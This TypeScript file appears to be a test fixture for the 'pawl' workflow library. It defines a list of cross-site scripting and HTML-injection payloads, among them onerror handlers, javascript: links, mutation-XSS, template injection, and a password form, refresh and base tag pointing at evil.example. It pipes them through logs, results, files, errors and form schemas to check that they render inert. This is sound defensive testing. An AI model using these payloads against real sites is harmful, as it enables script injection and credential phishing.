import { workflow } from "pawl";

/** Whatever of these runs, says so here: `window.pwned`. What only would, were there no Content-Security-Policy, is found by what it leaves in the page. */
export const attacks: readonly string[] = [
  `<script>window.pwned=1</script>`,
  `"><img src=x onerror="window.pwned=1">`,
  `<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>`,
  `<a href="javascript:window.pwned=1">a link</a><a href="java\tscript:window.pwned=1">b</a><a href=" &#106;avascript:window.pwned=1">c</a>`,
  `[a link](javascript:window.pwned=1) ![a picture](https://evil.example/pixel.png) <javascript:window.pwned=1> [x]: javascript:window.pwned=1`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  `<form action="https://evil.example/"><input name="password" autofocus onfocus="window.pwned=1"><button formaction="javascript:window.pwned=1">Sign in</button></form>`,
  `<style>@import "https://evil.example/s.css"; body { display: none }</style><div style="position:fixed;inset:0;background:url(https://evil.example/b)">over all</div>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/l.css">`,
  `<img name="getElementById"><form id="screen"><input name="attributes"></form><video><source onerror="window.pwned=1"></video>`,
  "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= window.pwned=1 %>",
  `\u202egnp.exe </title></textarea></script><script>window.pwned=1</script>`,
];

/** All of them in one text. */
export const attack: string = attacks.join("\n\n");

const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.pwned=1"><script>window.pwned=1</script><image href="https://evil.example/i.png"/></svg>`;

/** Says it wherever a run can say anything. */
export const evil = workflow(
  { name: "evil", title: attack.slice(0, 400), description: attack, tags: [attacks[1]!] },
  async (ctx, input: unknown) => {
    ctx.log.info(attack, { attack });
    ctx.emit("result", { $result: "html", text: attack });
    ctx.emit("attack", { [attacks[1]!]: attack });
    await ctx.stream("words").write(attack);
    ctx.setState("attack", attack);
    await ctx.step(attacks[1]!.slice(0, 60), () => ({ attack, [attacks[0]!]: input }));
    const drawing = await ctx.step("draw", async () => {
      const { name, size, type } = await ctx.files.write("out/x.svg", svg, {
        type: "image/svg+xml",
        name: `${attacks[1]!}.svg`,
      });
      return { $file: "out/x.svg", name, size, type };
    });
    return {
      $result: "results",
      items: [
        { $result: "html", text: attack },
        { $result: "markdown", text: attack },
        { $result: "text", text: attack, language: attacks[1] },
        { $result: "json", value: { attack }, title: attack },
        { $result: "table", columns: [{ key: "a", title: attack }], rows: [{ a: attack }], title: attack },
        {
          $result: "chart",
          kind: "bar",
          x: [attack],
          series: [{ name: attack, values: [1] }],
          title: attack,
          unit: attack,
        },
        {
          $result: "image",
          data: `data:image/svg+xml;base64,${Buffer.from(svg).toString("base64")}`,
          alt: attack,
          title: attack,
        },
        { $result: "image", file: drawing, alt: attack },
        { $result: "file", file: drawing, title: attack },
      ],
    };
  },
);

export const failing = workflow({ name: "failing" }, async (ctx) => {
  await ctx.step("fail", { retries: 0 } as never, () => {
    throw Object.assign(new Error(attack), { hint: attack, details: { attack } });
  });
});

/** A question whose words and form are the attacker's. */
export const asking = workflow({ name: "asking" }, (ctx) =>
  ctx.interrupt({
    name: "q",
    title: attack.slice(0, 300),
    description: attack,
    schema: {
      type: "object",
      title: attack,
      properties: {
        note: { type: "string", title: attack, description: attack, default: attack, ui: { placeholder: attack } },
        pick: { type: "string", enum: [attack], title: attack },
        html: { type: "null", ui: { widget: "html", html: attack, content: attack, text: attack } },
        markdown: { type: "null", ui: { widget: "markdown", markdown: attack, content: attack, text: attack } },
      },
    },
    default: { note: attack },
  }),
);
